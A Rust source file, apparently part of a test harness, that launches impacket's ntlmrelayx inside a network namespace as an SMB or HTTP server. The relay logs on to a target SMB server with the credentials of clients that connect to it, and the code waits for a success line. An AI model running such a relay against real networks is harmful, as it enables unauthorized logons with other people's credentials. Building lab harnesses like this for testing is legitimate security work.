//! impacket's ntlmrelayx inside a namespace: a server of SMB or HTTP that logs on elsewhere with its clients' credentials.

use std::net::IpAddr;
use std::process::Stdio;
use std::time::Duration;

use anyhow::Result;

use super::folder;
use crate::{Namespace, Process, Scratch, scratch_dir};

const READY_WITHIN: Duration = Duration::from_secs(40);
/// Its servers.
const SERVERS: [&str; 8] = ["smb", "http", "wcf", "raw", "rpc", "winrm", "mssql", "rdp"];

/// A running relay. Dropping it ends it.
pub struct NtlmRelay {
    // Drop order matters.
    process: Process,
    _scratch: Scratch,
}

impl NtlmRelay {
    /// Starts it in `namespace` on port 445, relaying to the SMB server at `target`, and returns when it serves.
    ///
    /// # Errors
    /// When Python cannot be run, or the relay does not come up within 40 s; the error quotes its output.
    pub fn start(namespace: &Namespace, target: impl Into<IpAddr>) -> Result<Self> {
        Self::serving("smb", namespace, target)
    }

    /// The same as an HTTP server on port 80, which also answers WebDAV.
    ///
    /// # Errors
    /// As for [`start`](Self::start).
    pub fn start_http(namespace: &Namespace, target: impl Into<IpAddr>) -> Result<Self> {
        Self::serving("http", namespace, target)
    }

    fn serving(served: &str, namespace: &Namespace, target: impl Into<IpAddr>) -> Result<Self> {
        let scratch = scratch_dir()?;
        let mut command = namespace.command(folder().join("bin/python"));
        command.args(["-I", "-u"]).arg(folder().join("bin/ntlmrelayx.py"));
        command.args(["-t", &format!("smb://{}", target.into()), "-smb2support", "--no-multirelay"]);
        let others = SERVERS.into_iter().filter(|server| *server != served);
        command.args(others.map(|server| format!("--no-{server}-server")));
        // It ends with its standard input, and writes its results into its working folder.
        command.stdin(Stdio::piped()).current_dir(scratch.path());
        let process = Process::spawn(command)?;
        process.wait_for_line(READY_WITHIN, |line| line.contains("Servers started"))?;
        Ok(Self { process, _scratch: scratch })
    }

    /// Waits until it has logged on to its target with the response of a client.
    ///
    /// # Errors
    /// When it did not within that time; the error quotes its output.
    pub fn wait_for_log_on(&self, within: Duration) -> Result<String> {
        self.process.wait_for_line(within, |line| line.contains("SUCCEED"))
    }
}
